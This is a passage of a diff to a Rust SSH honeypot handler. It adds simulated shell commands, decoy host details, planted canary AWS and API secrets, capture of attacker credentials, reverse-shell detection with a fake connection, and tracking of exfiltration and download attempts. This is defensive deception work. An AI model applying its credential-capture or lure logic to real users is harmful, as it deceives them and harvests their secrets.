@@ -2,10 +2,104 @@
 //!
 //! Erweiterte SSH Honeypot-Interaktionen mit Shell-Simulation
 
+use super::behavior::{BehaviorClass, BehaviorClassifier};
 use super::command_parser::{CommandParser, Command};
 use super::fake_filesystem::FakeFilesystem;
-use std::time::Duration;
-use tokio::time::sleep;
+use super::limits::{within_limit, DEFAULT_MAX_SSH_COMMAND};
+use super::pager::{Pager, TerminalSize};
+use super::response_generator::{BannerDelay, ResponseGenerator};
+use super::reverse_shell::{detect_reverse_shell, ReverseShellSink};
+use crate::canary::{CanaryAccess, CanaryKind, CanaryRegistry};
+use crate::clock::{Clock, Sleeper, SystemClock, TokioSleeper};
+use crate::honeypots::CloseReason;
+use crate::credentials::CredentialStore;
+use crate::decoy::DecoyProfile;
+use crate::exfil::{is_sensitive_path, ExfilCounter};
+use crate::intel::IntelStore;
+use crate::personality::Personality;
+use crate::service_definition::ServiceDefinition;
+use crate::traffic::TrafficCounter;
+use serde::{Deserialize, Serialize};
+use std::net::IpAddr;
+use std::sync::Arc;
+use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};
+
+/// Standard SSH-Banner
+const DEFAULT_BANNER: &str = "SSH-2.0-OpenSSH_8.2p1 Ubuntu-4ubuntu0.5";
+/// Max. Anzahl erfasster Env-Requests pro Session
+const MAX_ENV_REQUESTS: usize = 64;
+/// Max. Gesamtgröße erfasster Binär-Payloads pro Session (Bytes)
+const MAX_BINARY_PAYLOAD_BYTES: usize = 256 * 1024;
+
+/// Verhalten bei `exit`/`logout`
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum ExitBehavior {
+    /// Verbindung beenden
+    #[default]
+    Disconnect,
+    /// Neuer Login-Prompt auf derselben Verbindung (Jump Host)
+    Relogin,
+    /// `exit` verlässt nur eine Sub-Shell (`bash`/`sh`), die Session läuft
+    /// weiter - in der Login-Shell startet eine frische Shell im Home
+    SubShell,
+}
+
+/// Antwort auf unbekannte bzw. nicht erlaubte Commands
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(tag = "mode", rename_all = "snake_case")]
+pub enum UnknownCommandStrategy {
+    /// `<cmd>: command not found`
+    #[default]
+    CommandNotFound,
+    /// `-bash: <cmd>: Permission denied`
+    PermissionDenied,
+    /// Eingeschränkte Shell: nur `allowed` (sowie `exit`/`logout`) läuft
+    RestrictedShell { allowed: Vec<String> },
+}
+
+impl UnknownCommandStrategy {
+    /// Darf das Command ausgeführt werden?
+    pub fn allows(&self, command: &str) -> bool {
+        match self {
+            UnknownCommandStrategy::RestrictedShell { allowed } => {
+                matches!(command, "" | "exit" | "logout") || allowed.iter().any(|a| a == command)
+            }
+            _ => true,
+        }
+    }
+
+    /// Ausgabe für ein unbekanntes oder nicht erlaubtes Command
+    pub fn response(&self, command: &str) -> String {
+        match self {
+            UnknownCommandStrategy::CommandNotFound => format!("{}: command not found\n", command),
+            UnknownCommandStrategy::PermissionDenied => {
+                format!("-bash: {}: Permission denied\n", command)
+            }
+            UnknownCommandStrategy::RestrictedShell { .. } => {
+                format!("*** forbidden command: {}\n", command)
+            }
+        }
+    }
+}
+
+/// Login-Dialog nach `exit` mit `ExitBehavior::Relogin`
+#[derive(Debug, Clone, PartialEq, Eq)]
+enum LoginPrompt {
+    Username,
+    Password(String),
+}
+
+/// Channel-Requests vor der Shell (Fingerprinting des Clients)
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct SshChannelRequests {
+    /// Terminal-Typ aus PTY-Request oder `TERM` Env
+    pub term: Option<String>,
+    /// Fenstergröße aus dem PTY-Request
+    pub window: Option<TerminalSize>,
+    /// Angefragte Env-Variablen in Reihenfolge
+    pub env: Vec<(String, String)>,
+}
 
 /// SSH Interaction Handler
 pub struct SshInteractionHandler {
@@ -13,24 +107,373 @@ pub struct SshInteractionHandler {
     command_parser: CommandParser,
     session_id: String,
     username: String,
-    hostname: String,
+    /// Hostname, MAC, Uptime, PIDs (pro Angreifer stabil)
+    decoy: DecoyProfile,
+    banner: String,
+    /// Kernel für `uname` (Release, Build)
+    kernel: (String, String),
+    banner_delay: BannerDelay,
+    credential_store: Option<(Arc<CredentialStore>, IpAddr)>,
+    intel: Option<(Arc<IntelStore>, IpAddr)>,
+    max_command_len: usize,
+    response_generator: ResponseGenerator,
+    binary_payloads: Vec<Vec<u8>>,
+    /// Summe der Bytes in `binary_payloads`
+    binary_payload_bytes: usize,
+    /// Wegen `MAX_BINARY_PAYLOAD_BYTES` nicht mehr erfasste Payloads
+    dropped_binary_payloads: u64,
+    canaries: Option<Arc<CanaryRegistry>>,
+    exfil: ExfilCounter,
+    sleeper: Arc<dyn Sleeper>,
+    terminal: TerminalSize,
+    /// Große Ausgaben automatisch seitenweise ausgeben
+    paging: bool,
+    /// Aktiver Pager - Eingaben sind dann Tastendrücke
+    pager: Option<Pager>,
+    channel_requests: SshChannelRequests,
+    /// Reverse-Shell-Commands mit simulierter Rückverbindung beantworten
+    simulate_reverse_shell: bool,
+    reverse_shell: Option<ReverseShellSink>,
+    exit_behavior: ExitBehavior,
+    unknown_command: UnknownCommandStrategy,
+    login_prompt: Option<LoginPrompt>,
+    /// Arbeitsverzeichnisse der Eltern-Shells offener Sub-Shells
+    subshells: Vec<String>,
+    disconnected: bool,
+    close_reason: Option<CloseReason>,
+    /// Obergrenze der gesamten Engagement-Zeit (unabhängig von Aktivität)
+    max_engagement: Option<Duration>,
+    engagement_started: Option<Instant>,
+    clock: Arc<dyn Clock>,
+    behavior: BehaviorClassifier,
+    behavior_class: BehaviorClass,
+    traffic: TrafficCounter,
 }
 
 impl SshInteractionHandler {
     pub fn new(session_id: String) -> Self {
+        let personality = Personality::default();
         Self {
             filesystem: FakeFilesystem::new(),
             command_parser: CommandParser::new(),
             session_id,
             username: "admin".to_string(),
-            hostname: "ubuntu-server".to_string(),
+            decoy: DecoyProfile::default(),
+            banner: DEFAULT_BANNER.to_string(),
+            kernel: (personality.kernel_release, personality.kernel_version),
+            banner_delay: BannerDelay::ssh(),
+            credential_store: None,
+            intel: None,
+            max_command_len: DEFAULT_MAX_SSH_COMMAND,
+            response_generator: ResponseGenerator::default(),
+            binary_payloads: Vec::new(),
+            binary_payload_bytes: 0,
+            dropped_binary_payloads: 0,
+            canaries: None,
+            exfil: ExfilCounter::new(),
+            sleeper: Arc::new(TokioSleeper),
+            terminal: TerminalSize::default(),
+            paging: false,
+            pager: None,
+            channel_requests: SshChannelRequests::default(),
+            simulate_reverse_shell: false,
+            reverse_shell: None,
+            exit_behavior: ExitBehavior::default(),
+            unknown_command: UnknownCommandStrategy::default(),
+            login_prompt: None,
+            subshells: Vec::new(),
+            disconnected: false,
+            close_reason: None,
+            max_engagement: None,
+            engagement_started: None,
+            clock: Arc::new(SystemClock),
+            behavior: BehaviorClassifier::new(),
+            behavior_class: BehaviorClass::Unknown,
+            traffic: TrafficCounter::new(),
+        }
+    }
+
+    /// Profil eines Services übernehmen (Banner, Fake-Dateien)
+    pub fn with_profile(mut self, profile: &ServiceDefinition) -> Self {
+        if let Some(banner) = &profile.banner {
+            self.banner = banner.clone();
+        }
+        if let Some(delay) = profile.banner_delay {
+            self.banner_delay = delay;
+        }
+        if let Some(strategy) = &profile.unknown_command {
+            self.unknown_command = strategy.clone();
+        }
+        self.filesystem = profile.build_filesystem();
+        self
+    }
+
+    /// Decoy-Secrets im Fake Filesystem platzieren und Zugriffe überwachen
+    pub fn with_canary_registry(mut self, canaries: Arc<CanaryRegistry>) -> Self {
+        let aws_path = "/home/admin/.aws/credentials";
+        let access_key = canaries.token(CanaryKind::AwsAccessKey, aws_path);
+        let secret_key = canaries.token(CanaryKind::Password, aws_path);
+        self.filesystem.plant_file(
+            aws_path,
+            "-rw-r--r--",
+            &format!(
+                "[default]\naws_access_key_id = {}\naws_secret_access_key = {}\n",
+                access_key.value, secret_key.value
+            ),
+        );
+
+        let env_path = "/opt/app/.env";
+        let api_token = canaries.token(CanaryKind::ApiToken, env_path);
+        self.filesystem.plant_file(
+            env_path,
+            "-rw-r--r--",
+            &format!("APP_ENV=production\nSTRIPE_API_KEY={}\n", api_token.value),
+        );
+
+        self.canaries = Some(canaries);
+        self
+    }
+
+    /// Mit Decoy-Details (z.B. `DecoySeed::profile_for` der Quell-IP)
+    pub fn with_decoy(mut self, decoy: DecoyProfile) -> Self {
+        self.decoy = decoy;
+        self
+    }
+
+    /// Banner und Kernel aus der Deployment-Persönlichkeit übernehmen
+    pub fn with_personality(mut self, personality: &Personality) -> Self {
+        self.banner = personality.ssh_banner.clone();
+        self.kernel = (
+            personality.kernel_release.clone(),
+            personality.kernel_version.clone(),
+        );
+        self
+    }
+
+    /// Mit eigenem Response Generator (Strategie, Delay-Modell)
+    pub fn with_response_generator(mut self, response_generator: ResponseGenerator) -> Self {
+        self.response_generator = response_generator;
+        self
+    }
+
+    /// Mit max. Länge der Kommandozeile (Bytes)
+    pub fn with_max_command_len(mut self, max_command_len: usize) -> Self {
+        self.max_command_len = max_command_len;
+        self
+    }
+
+    /// Erfasste Credentials zusätzlich in geteilten Store schreiben
+    pub fn with_credential_store(mut self, store: Arc<CredentialStore>, source_ip: IpAddr) -> Self {
+        self.credential_store = Some((store, source_ip));
+        self
+    }
+
+    /// Commands und Angriffe in den Intel-Store schreiben
+    pub fn with_intel_store(mut self, intel: Arc<IntelStore>, source_ip: IpAddr) -> Self {
+        self.intel = Some((intel, source_ip));
+        self
+    }
+
+    fn record_attack(&self, category: &str) {
+        if let Some((intel, source_ip)) = &self.intel {
+            intel.record_attack(*source_ip, category);
+        }
+    }
+
+    /// Mit Terminal-Größe (Spalten x Zeilen)
+    pub fn with_terminal_size(mut self, cols: u16, rows: u16) -> Self {
+        self.terminal = TerminalSize { cols, rows };
+        self
+    }
+
+    /// Große Ausgaben mit `--More--` Prompt paginieren
+    pub fn with_paging(mut self, paging: bool) -> Self {
+        self.paging = paging;
+        self
+    }
+
+    /// Wartet ein `--More--` Prompt auf Eingabe?
+    pub fn is_paging(&self) -> bool {
+        self.pager.is_some()
+    }
+
+    /// PTY-Request erfassen (Terminal-Typ, Fenstergröße)
+    pub fn handle_pty_request(&mut self, term: &str, cols: u16, rows: u16) {
+        tracing::info!(
+            "🖥️ PTY request: {} {}x{} (Session: {})",
+            term,
+            cols,
+            rows,
+            self.session_id
+        );
+
+        self.terminal = TerminalSize { cols, rows };
+        self.channel_requests.term = Some(term.to_string());
+        self.channel_requests.window = Some(self.terminal);
+    }
+
+    /// Env-Request erfassen (`TERM` setzt den Terminal-Typ, falls noch unbekannt)
+    pub fn handle_env_request(&mut self, name: &str, value: &str) {
+        if self.channel_requests.env.len() >= MAX_ENV_REQUESTS {
+            tracing::debug!(
+                "Env request {} dropped (limit reached) (Session: {})",
+                name,
+                self.session_id
+            );
+            return;
+        }
+
+        tracing::info!("🌱 Env request: {}={} (Session: {})", name, value, self.session_id);
+
+        if name == "TERM" && self.channel_requests.term.is_none() {
+            self.channel_requests.term = Some(value.to_string());
+        }
+        self.channel_requests
+            .env
+            .push((name.to_string(), value.to_string()));
+    }
+
+    /// Bisher erfasste Channel-Requests
+    pub fn channel_requests(&self) -> &SshChannelRequests {
+        &self.channel_requests
+    }
+
+    /// Mit Verhalten bei `exit`/`logout`
+    pub fn with_exit_behavior(mut self, exit_behavior: ExitBehavior) -> Self {
+        self.exit_behavior = exit_behavior;
+        self
+    }
+
+    /// Mit Antwort auf unbekannte Commands
+    pub fn with_unknown_command_strategy(mut self, strategy: UnknownCommandStrategy) -> Self {
+        self.unknown_command = strategy;
+        self
+    }
+
+    /// Max. Länge der Kommandozeile (Bytes)
+    pub fn max_command_len(&self) -> usize {
+        self.max_command_len
+    }
+
+    /// Hat der Angreifer die Verbindung per `exit` beendet?
+    pub fn is_disconnected(&self) -> bool {
+        self.disconnected
+    }
+
+    /// Mit max. Engagement-Zeit pro Session (ab der ersten Eingabe)
+    pub fn with_max_engagement(mut self, max_engagement: Duration) -> Self {
+        self.max_engagement = Some(max_engagement);
+        self
+    }
+
+    /// Grund, aus dem der Honeypot die Session beendet hat
+    pub fn close_reason(&self) -> Option<CloseReason> {
+        self.close_reason
+    }
+
+    /// Engagement-Budget prüfen und Session bei Überschreitung beenden
+    fn engagement_budget_exhausted(&mut self) -> bool {
+        let Some(budget) = self.max_engagement else {
+            return false;
+        };
+        let now = self.clock.now();
+        let started = *self.engagement_started.get_or_insert(now);
+        if now.saturating_duration_since(started) < budget {
+            return false;
+        }
+
+        if self.close_reason.is_none() {
+            tracing::warn!(
+                "⏱️ Engagement budget of {:?} exhausted, closing (Session: {})",
+                budget,
+                self.session_id
+            );
+        }
+        self.disconnected = true;
+        self.close_reason = Some(CloseReason::EngagementBudgetExhausted);
+        true
+    }
+
+    /// Reverse Shells zum Schein "verbinden" und Folge-Eingaben erfassen
+    pub fn with_reverse_shell_simulation(mut self, enabled: bool) -> Self {
+        self.simulate_reverse_shell = enabled;
+        self
+    }
+
+    /// Simulierte Reverse Shell (falls verbunden)
+    pub fn reverse_shell(&self) -> Option<&ReverseShellSink> {
+        self.reverse_shell.as_ref()
+    }
+
+    /// Mit eigener Verzögerung vor dem Banner
+    pub fn with_banner_delay(mut self, banner_delay: BannerDelay) -> Self {
+        self.banner_delay = banner_delay;
+        self
+    }
+
+    /// Mit eigener Zeitquelle für das Command-Timing (z.B. `MockClock`)
+    pub fn with_clock(mut self, clock: Arc<dyn Clock>) -> Self {
+        self.clock = clock;
+        self
+    }
+
+    /// Aktuelle Einstufung als Bot oder Mensch
+    pub fn behavior_class(&self) -> BehaviorClass {
+        self.behavior_class
+    }
+
+    /// Mit eigenem Sleeper (z.B. `RecordingSleeper` in Tests)
+    pub fn with_sleeper(mut self, sleeper: Arc<dyn Sleeper>) -> Self {
+        self.sleeper = sleeper;
+        self
+    }
+
+    /// Exfiltrierte Bytes in den Zähler der Session buchen
+    pub fn with_exfil_counter(mut self, exfil: ExfilCounter) -> Self {
+        self.exfil = exfil;
+        self
+    }
+
+    /// Login-Versuche und Commands in den Traffic der Connection zählen
+    pub fn with_traffic_counter(mut self, traffic: TrafficCounter) -> Self {
+        self.traffic = traffic;
+        self
+    }
+
+    /// Mit Login-Dialog beginnen (Byte-Stream ohne SSH-Protokoll)
+    pub fn start_login(&mut self) {
+        self.login_prompt = Some(LoginPrompt::Username);
+    }
+
+    /// Angeforderten Login-Dialog übernehmen (z.B. Telnet mit eigenem Login)
+    pub fn take_login_prompt(&mut self) -> bool {
+        self.login_prompt.take().is_some()
+    }
+
+    /// Shell als eingeloggter User fortsetzen (Prompt, `whoami`, Home)
+    pub fn login_as(&mut self, username: &str) {
+        if !username.is_empty() {
+            self.username = username.to_string();
+        }
+        self.subshells.clear();
+        let home = match self.username.as_str() {
+            "root" => "/root".to_string(),
+            user => format!("/home/{}", user),
+        };
+        if self.filesystem.change_dir(&home).is_err() {
+            self.filesystem.change_dir("/").ok();
         }
     }
 
+    /// Bisher exfiltrierte Bytes (z.B. via `cat` auf sensible Dateien)
+    pub fn exfil_bytes(&self) -> u64 {
+        self.exfil.bytes()
+    }
+
     /// Send SSH banner
     pub async fn send_banner(&self) -> String {
-        sleep(Duration::from_millis(200)).await;
-        "SSH-2.0-OpenSSH_8.2p1 Ubuntu-4ubuntu0.5".to_string()
+        self.sleeper.sleep(self.banner_delay.sample()).await;
+        self.banner.clone()
     }
 
     /// Authenticate (always "succeeds" for honeypot)
@@ -43,58 +486,275 @@ impl SshInteractionHandler {
         );
         
         // Simulate auth delay
-        sleep(Duration::from_secs(2)).await;
+        self.traffic.record_failed_login();
+        self.sleeper.sleep(Duration::from_secs(2)).await;
         
         // Log credentials
         tracing::warn!("📝 Captured credentials: {}:{}", username, password);
+        if let Some((store, source_ip)) = &self.credential_store {
+            store.record(*source_ip, "SSH", username, password);
+        }
         
         true // Always accept for honeypot
     }
 
     /// Get shell prompt
     pub fn get_prompt(&self) -> String {
+        match &self.login_prompt {
+            Some(LoginPrompt::Username) => return format!("{} login: ", self.decoy.hostname),
+            Some(LoginPrompt::Password(_)) => return "Password: ".to_string(),
+            None => {}
+        }
+
         let pwd = self.filesystem.current_dir();
-        format!("{}@{}:{}$ ", self.username, self.hostname, pwd)
+        let sigil = if self.username == "root" { '#' } else { '$' };
+        format!("{}@{}:{}{} ", self.username, self.decoy.hostname, pwd, sigil)
+    }
+
+    /// Execute raw input bytes (z.B. Binär-Payloads von Exploits)
+    ///
+    /// Ungültiges UTF-8 bzw. Steuerzeichen werden als Roh-Bytes erfasst und
+    /// für Anzeige/Logging verlustbehaftet dekodiert.
+    pub async fn execute_raw(&mut self, input: &[u8]) -> String {
+        if !within_limit("ssh", &self.session_id, input.len(), self.max_command_len) {
+            return "-bash: Argument list too long\n".to_string();
+        }
+
+        let input = input.strip_suffix(b"\n").unwrap_or(input);
+        let input = input.strip_suffix(b"\r").unwrap_or(input);
+
+        if is_binary(input) {
+            tracing::warn!(
+                "🚨 Binary payload ({} bytes): {} (Session: {})",
+                input.len(),
+                String::from_utf8_lossy(input).escape_debug(),
+                self.session_id
+            );
+            if self.binary_payload_bytes + input.len() <= MAX_BINARY_PAYLOAD_BYTES {
+                self.binary_payload_bytes += input.len();
+                self.binary_payloads.push(input.to_vec());
+            } else {
+                self.dropped_binary_payloads += 1;
+                tracing::debug!(
+                    "Binary payload dropped (capture limit reached) (Session: {})",
+                    self.session_id
+                );
+            }
+            self.record_attack("binary_payload");
+        }
+
+        let text = String::from_utf8_lossy(input);
+        let text: String = text.chars().filter(|c| !c.is_control() || *c == '\t').collect();
+        self.execute_command(&text).await
+    }
+
+    /// Erfasste Binär-Payloads (Roh-Bytes)
+    ///
+    /// Pro Session werden höchstens `MAX_BINARY_PAYLOAD_BYTES` (256 KiB)
+    /// vorgehalten; spätere Payloads zählt nur `dropped_binary_payloads`.
+    pub fn binary_payloads(&self) -> &[Vec<u8>] {
+        &self.binary_payloads
+    }
+
+    /// Anzahl Binär-Payloads, die wegen des Limits nicht erfasst wurden
+    pub fn dropped_binary_payloads(&self) -> u64 {
+        self.dropped_binary_payloads
     }
 
     /// Execute command and return output
     pub async fn execute_command(&mut self, input: &str) -> String {
+        if !within_limit("ssh", &self.session_id, input.len(), self.max_command_len) {
+            return "-bash: Argument list too long\n".to_string();
+        }
+
+        if self.engagement_budget_exhausted() {
+            return String::new();
+        }
+
+        if let Some(prompt) = self.login_prompt.take() {
+            return self.handle_login_input(prompt, input.trim()).await;
+        }
+
+        if let Some(pager) = &mut self.pager {
+            let output = pager.advance(input);
+            if pager.is_finished() {
+                self.pager = None;
+            }
+            return output;
+        }
+
+        if let Some(shell) = &mut self.reverse_shell {
+            shell.capture(input.trim(), &self.session_id);
+        } else if self.simulate_reverse_shell {
+            if let Some(target) = detect_reverse_shell(input) {
+                tracing::warn!(
+                    "🐚 Reverse shell to {}:{} simulated as connected (Session: {})",
+                    target.host,
+                    target.port,
+                    self.session_id
+                );
+                self.command_parser.parse(input);
+                self.record_attack("reverse_shell");
+                let shell = ReverseShellSink::new(target);
+                let greeting = shell.greeting().to_string();
+                self.reverse_shell = Some(shell);
+                return greeting;
+            }
+        }
+
+        let received_at = self.clock.now();
         let cmd = self.command_parser.parse(input);
-        
+
+        if let Some((intel, source_ip)) = &self.intel {
+            if !cmd.raw.is_empty() {
+                intel.record_command(*source_ip, &cmd.raw);
+            }
+        }
+
         if cmd.is_malicious {
             tracing::warn!("🚨 Malicious command detected: {}", cmd.raw);
+            self.record_attack("malicious_command");
         }
 
         tracing::info!("💻 Executing: {} (Session: {})", cmd.raw, self.session_id);
 
-        // Simulate command execution delay
-        sleep(Duration::from_millis(100)).await;
+        // Decoy-Secrets in ausgehenden Commands = Exfiltration
+        if let Some(canaries) = &self.canaries {
+            canaries.check(&cmd.raw, CanaryAccess::Exfiltration, &self.session_id);
+        }
 
         // Handle commands
-        match cmd.name.as_str() {
-            "ls" => self.handle_ls(&cmd).await,
-            "pwd" => self.handle_pwd().await,
-            "cd" => self.handle_cd(&cmd).await,
-            "cat" => self.handle_cat(&cmd).await,
-            "whoami" => self.handle_whoami().await,
-            "uname" => self.handle_uname(&cmd).await,
-            "id" => self.handle_id().await,
-            "hostname" => self.handle_hostname().await,
-            "ifconfig" | "ip" => self.handle_network().await,
-            "ps" => self.handle_ps().await,
-            "wget" | "curl" => self.handle_download(&cmd).await,
-            "chmod" | "chown" => self.handle_permission_change(&cmd).await,
-            "rm" => self.handle_rm(&cmd).await,
-            "echo" => self.handle_echo(&cmd).await,
-            "history" => self.handle_history().await,
-            "exit" | "logout" => "logout\n".to_string(),
-            "" => String::new(),
-            _ => format!("{}: command not found\n", cmd.name),
+        let mut refused = !self.unknown_command.allows(&cmd.name);
+        let output = if refused {
+            self.unknown_command.response(&cmd.name)
+        } else {
+            match cmd.name.as_str() {
+                "ls" => self.handle_ls(&cmd).await,
+                "pwd" => self.handle_pwd().await,
+                "cd" => self.handle_cd(&cmd).await,
+                "cat" | "more" | "less" => self.handle_cat(&cmd).await,
+                "whoami" => self.handle_whoami().await,
+                "uname" => self.handle_uname(&cmd).await,
+                "id" => self.handle_id().await,
+                "hostname" => self.handle_hostname().await,
+                "ifconfig" | "ip" => self.handle_network().await,
+                "ps" => self.handle_ps().await,
+                "uptime" => self.handle_uptime().await,
+                "wget" | "curl" => self.handle_download(&cmd).await,
+                "chmod" | "chown" => self.handle_permission_change(&cmd).await,
+                "rm" => self.handle_rm(&cmd).await,
+                "touch" => self.handle_touch(&cmd).await,
+                "mkdir" => self.handle_mkdir(&cmd).await,
+                "echo" => self.handle_echo(&cmd).await,
+                "history" => self.handle_history().await,
+                "bash" | "sh" if self.exit_behavior == ExitBehavior::SubShell => {
+                    self.subshells.push(self.filesystem.current_dir());
+                    String::new()
+                }
+                "exit" | "logout" => self.handle_exit(),
+                "" => String::new(),
+                _ => {
+                    refused = true;
+                    self.unknown_command.response(&cmd.name)
+                }
+            }
+        };
+
+        if !cmd.raw.is_empty() {
+            self.traffic.record_command();
+            let failed = refused || output.contains("No such file");
+            self.behavior.record(&cmd.raw, received_at, failed);
+            self.update_behavior_class();
+        }
+
+        // Realistische Latenz abhängig von Command-Typ und Output-Größe
+        let delay = self.response_generator.command_delay(&cmd.name, output.len());
+        self.sleeper.sleep(delay).await;
+        self.response_generator.add_wasted_time(delay);
+        self.engagement_budget_exhausted();
+
+        let force_paging = matches!(cmd.name.as_str(), "more" | "less");
+        if (self.paging || force_paging) && Pager::needs_paging(&output, self.terminal) {
+            let mut pager = Pager::new(&output, self.terminal);
+            let page = pager.next_page();
+            self.pager = Some(pager);
+            return page;
+        }
+
+        output
+    }
+
+    /// Einstufung neu berechnen, Engagement nur bei Wechsel anpassen
+    fn update_behavior_class(&mut self) {
+        let class = self.behavior.classify();
+        if class == self.behavior_class || class == BehaviorClass::Unknown {
+            return;
+        }
+
+        tracing::info!(
+            "🧭 Attacker classified as {:?} (diversity {:.2}) (Session: {})",
+            class,
+            self.behavior.diversity(),
+            self.session_id
+        );
+        self.behavior_class = class;
+        self.traffic.record_behavior(class);
+        self.response_generator.update_engagement(
+            class == BehaviorClass::Human && self.behavior.diversity() > 0.7,
+            class == BehaviorClass::Automated,
+        );
+    }
+
+    fn handle_exit(&mut self) -> String {
+        match self.exit_behavior {
+            ExitBehavior::Disconnect => {
+                self.disconnected = true;
+                "logout\n".to_string()
+            }
+            ExitBehavior::Relogin => {
+                tracing::info!(
+                    "🔁 Exit answered with new login prompt (Session: {})",
+                    self.session_id
+                );
+                self.login_prompt = Some(LoginPrompt::Username);
+                "logout\n\n".to_string()
+            }
+            ExitBehavior::SubShell => {
+                match self.subshells.pop() {
+                    Some(cwd) => {
+                        self.filesystem.change_dir(&cwd).ok();
+                    }
+                    None => {
+                        tracing::info!(
+                            "🔁 Exit answered with fresh login shell (Session: {})",
+                            self.session_id
+                        );
+                        let username = self.username.clone();
+                        self.login_as(&username);
+                    }
+                }
+                "exit\n".to_string()
+            }
+        }
+    }
+
+    /// Eingabe im Login-Dialog nach `exit` (Username, dann Passwort)
+    async fn handle_login_input(&mut self, prompt: LoginPrompt, input: &str) -> String {
+        match prompt {
+            LoginPrompt::Username => {
+                self.login_prompt = Some(LoginPrompt::Password(input.to_string()));
+                String::new()
+            }
+            LoginPrompt::Password(username) => {
+                self.authenticate(&username, input).await;
+                self.login_as(&username);
+                "\nLast login: Mon Dec  1 10:00:00 2025\n".to_string()
+            }
         }
     }
 
     async fn handle_ls(&self, cmd: &Command) -> String {
-        let path = cmd.args.first().map(|s| s.as_str());
+        let path = cmd.args.iter().find(|arg| !arg.starts_with('-')).map(|s| s.as_str());
         
         match self.filesystem.list_dir(path) {
             Ok(entries) => {
@@ -102,8 +762,8 @@ impl SshInteractionHandler {
                 for entry in entries {
                     if cmd.args.contains(&"-l".to_string()) || cmd.args.contains(&"-la".to_string()) {
                         output.push_str(&format!(
-                            "{} 1 admin admin {:>8} Dec  1 10:00 {}\n",
-                            entry.permissions, entry.size, entry.name
+                            "{} 1 {} {} {:>8} Dec  1 10:00 {}\n",
+                            entry.permissions, entry.owner, entry.owner, entry.size, entry.name
                         ));
                     } else {
                         output.push_str(&format!("{}  ", entry.name));
@@ -137,7 +797,15 @@ impl SshInteractionHandler {
     async fn handle_cat(&self, cmd: &Command) -> String {
         if let Some(path) = cmd.args.first() {
             match self.filesystem.read_file(path) {
-                Ok(content) => content,
+                Ok(content) => {
+                    if let Some(canaries) = &self.canaries {
+                        canaries.check(&content, CanaryAccess::FileRead, &self.session_id);
+                    }
+                    if is_sensitive_path(path) {
+                        self.exfil.record("SSH", path, content.len(), &self.session_id);
+                    }
+                    content
+                }
                 Err(e) => format!("{}\n", e),
             }
         } else {
@@ -151,7 +819,12 @@ impl SshInteractionHandler {
 
     async fn handle_uname(&self, cmd: &Command) -> String {
         if cmd.args.contains(&"-a".to_string()) {
-            "Linux ubuntu-server 5.4.0-42-generic #46-Ubuntu SMP Fri Jul 10 00:24:02 UTC 2020 x86_64 x86_64 x86_64 GNU/Linux\n".to_string()
+            format!(
+                "Linux {} {} {} x86_64 x86_64 x86_64 GNU/Linux\n",
+                self.decoy.hostname, self.kernel.0, self.kernel.1
+            )
+        } else if cmd.args.contains(&"-r".to_string()) {
+            format!("{}\n", self.kernel.0)
         } else {
             "Linux\n".to_string()
         }
@@ -162,20 +835,48 @@ impl SshInteractionHandler {
     }
 
     async fn handle_hostname(&self) -> String {
-        format!("{}\n", self.hostname)
+        format!("{}\n", self.decoy.hostname)
     }
 
     async fn handle_network(&self) -> String {
-        "eth0: flags=4163<UP,BROADCAST,RUNNING,MULTICAST>  mtu 1500\n        inet 10.0.2.15  netmask 255.255.255.0  broadcast 10.0.2.255\n        inet6 fe80::a00:27ff:fe4e:66a1  prefixlen 64  scopeid 0x20<link>\n".to_string()
+        format!(
+            "eth0: flags=4163<UP,BROADCAST,RUNNING,MULTICAST>  mtu 1500\n        inet 10.0.2.15  netmask 255.255.255.0  broadcast 10.0.2.255\n        inet6 {}  prefixlen 64  scopeid 0x20<link>\n        ether {}  txqueuelen 1000  (Ethernet)\n",
+            self.decoy.link_local(),
+            self.decoy.mac_string()
+        )
     }
 
     async fn handle_ps(&self) -> String {
-        "  PID TTY          TIME CMD\n 1234 pts/0    00:00:00 bash\n 5678 pts/0    00:00:00 ps\n".to_string()
+        // PIDs wachsen mit der Anzahl ausgeführter Commands
+        let shell_pid = self.decoy.shell_pid;
+        let ps_pid = shell_pid + 1 + self.command_parser.history().len() as u32 * 3;
+        format!(
+            "  PID TTY          TIME CMD\n{:>5} pts/0    00:00:00 bash\n{:>5} pts/0    00:00:00 ps\n",
+            shell_pid, ps_pid
+        )
+    }
+
+    async fn handle_uptime(&self) -> String {
+        let now = SystemTime::now()
+            .duration_since(UNIX_EPOCH)
+            .map(|d| d.as_secs())
+            .unwrap_or_default();
+        let uptime = self.decoy.uptime_at(now).as_secs();
+        let clock = now % 86_400;
+        format!(
+            " {:02}:{:02}:{:02} up {} days, {:2}:{:02},  1 user,  load average: 0.08, 0.03, 0.01\n",
+            clock / 3600,
+            clock % 3600 / 60,
+            clock % 60,
+            uptime / 86_400,
+            uptime % 86_400 / 3600,
+            uptime % 3600 / 60
+        )
     }
 
     async fn handle_download(&self, cmd: &Command) -> String {
         tracing::warn!("🚨 Download attempt: {}", cmd.raw);
-        sleep(Duration::from_secs(1)).await;
+        self.sleeper.sleep(Duration::from_secs(1)).await;
         format!("{}: Connecting to remote server...\nConnection timed out\n", cmd.name)
     }
 
@@ -184,18 +885,91 @@ impl SshInteractionHandler {
         format!("{}: Operation not permitted\n", cmd.name)
     }
 
-    async fn handle_rm(&self, cmd: &Command) -> String {
+    async fn handle_rm(&mut self, cmd: &Command) -> String {
         tracing::warn!("🚨 File deletion attempt: {}", cmd.raw);
-        if cmd.args.contains(&"-rf".to_string()) || cmd.args.contains(&"-fr".to_string()) {
-            sleep(Duration::from_millis(500)).await;
-            "rm: cannot remove: Operation not permitted\n".to_string()
-        } else {
-            "rm: cannot remove: Operation not permitted\n".to_string()
+        let (flags, paths): (Vec<&String>, Vec<&String>) =
+            cmd.args.iter().partition(|arg| arg.starts_with('-'));
+        let recursive = flags.iter().any(|flag| flag.contains('r') || flag.contains('R'));
+        let force = flags.iter().any(|flag| flag.contains('f'));
+        if recursive && force {
+            self.sleeper.sleep(Duration::from_millis(500)).await;
+        }
+        if paths.is_empty() {
+            return "rm: missing operand\n".to_string();
+        }
+
+        let mut output = String::new();
+        for path in paths {
+            if !recursive && self.filesystem.is_dir(path) {
+                output.push_str(&format!("rm: cannot remove '{}': Is a directory\n", path));
+            } else if force && !self.filesystem.exists(path) {
